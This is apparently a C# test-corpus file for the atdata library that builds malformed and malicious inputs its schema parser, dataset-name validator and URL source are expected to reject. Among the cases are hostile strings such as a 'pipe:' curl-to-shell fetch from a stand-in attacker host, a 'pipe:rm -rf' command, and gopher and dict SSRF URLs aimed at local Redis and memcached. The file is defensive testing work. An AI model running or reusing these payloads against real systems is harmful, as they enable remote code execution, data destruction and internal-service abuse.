using System.Text;

namespace Atdata.Reliability.Tests.Corpus;

internal static partial class CorpusBuilder
{
    private static CorpusCase Text(string id, string @case, string cwe, string target, string expected, string extension, string text, string? message = null)
        => new(id, @case, cwe, target, expected, extension, Encoding.UTF8.GetBytes(text)) { Message = message };

    private static string SchemaJson(string name, string fieldName, string fieldType = """{"$type": "local#primitive", "primitive": "str"}""", string extra = "")
        => $$"""{"name": "{{name}}", "version": "1.0.0", "fields": [{"name": "{{fieldName}}", "fieldType": {{fieldType}}, "optional": false}]{{extra}}}""";

    private static IEnumerable<CorpusCase> Texts()
    {
        // Schema records (atdata's _validate_identifier counterpart): refused with SchemaFormatException.
        const string Schema = nameof(SchemaFormatException);
        yield return Text("g1-schema-not-json", "G1", "CWE-20", Targets.SchemaParser, Schema, "json", "{\"name\": \"A\", \"version\": ", "not valid JSON");
        yield return Text("g1-schema-top-level-array", "G1", "CWE-20", Targets.SchemaParser, Schema, "json", "[1, 2, 3]");
        yield return Text("g1-schema-field-python-keyword", "G1", "CWE-94", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "class"), "not a valid Python identifier");
        yield return Text("g1-schema-field-comment-terminator", "G1", "CWE-94", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "a*/b"), "not a valid Python identifier");
        yield return Text("g1-schema-field-quote", "G1", "CWE-94", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "a\\\"b"), "not a valid Python identifier");
        yield return Text("g1-schema-name-path-traversal", "G1", "CWE-22", Targets.SchemaParser, Schema, "json", SchemaJson("../Evil", "x"), "not a valid Python class name");
        yield return Text("g1-schema-unknown-primitive", "G1", "CWE-20", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "x", """{"$type": "local#primitive", "primitive": "pickle"}"""), "Unknown primitive");
        string deep = string.Concat(Enumerable.Repeat("""{"$type": "local#array", "items": """, 300)) + """{"$type": "local#primitive", "primitive": "str"}""" + new string('}', 300);
        yield return Text("g1-schema-nesting-300-levels", "G1", "CWE-674", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "x", deep));
        yield return Text("g1-schema-format-version-2", "G1", "CWE-20", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "x", extra: ", \"atdataSchemaVersion\": 2"));
        yield return Text("g1-schema-atmosphere-json-schema", "G1", "CWE-20", Targets.SchemaParser, Schema, "json", SchemaJson("Sample", "x", extra: ", \"schemaType\": \"jsonSchema\""), "jsonSchema");

        // S3: dataset names, validated before use as a key, prefix or path (the API documents ArgumentException).
        const string Argument = nameof(ArgumentException);
        foreach (var (name, label) in new[]
        {
            ("../escape", "dotdot"), ("a/b", "slash"), ("/abs", "absolute"), ("..", "only-dots"), ("", "empty"),
            ("line\nbreak", "newline"), ("nul\0byte", "nul"), (new string('a', 129), "129-chars"), ("d\u0430ta", "cyrillic-confusable"),
            ("with space", "space"), ("%2e%2e%2fetc", "percent-encoded"), ("name\u202Eexe.tar", "rtl-override"),
        })
        {
            yield return Text($"s3-name-{label}", "S3", "CWE-22", Targets.NameValidator, Argument, "txt", name, "dataset name");
        }

        // S2: index-supplied URLs outside the scheme allowlist.
        const string Source = nameof(ShardSourceException);
        foreach (var (url, label) in new[]
        {
            ("pipe:curl -s http://attacker.invalid/x | sh", "pipe-shell"), ("ftp://example.invalid/a.tar", "ftp"),
            ("gopher://127.0.0.1:6379/_FLUSHALL", "gopher-redis"), ("javascript:alert(1)", "javascript"),
            ("data:application/x-tar;base64,AAAA", "data-url"), ("s3://other-bucket/{a,b}.tar", "unregistered-s3"),
            ("{/tmp/a.tar,pipe:rm -rf x}", "mixed-schemes"), ("dict://127.0.0.1:11211/stats", "dict"),
        })
        {
            yield return Text($"s2-url-{label}", "S2", label.StartsWith("pipe", StringComparison.Ordinal) ? "CWE-78" : "CWE-918", Targets.UrlSource, Source, "txt", url);
        }
    }
}
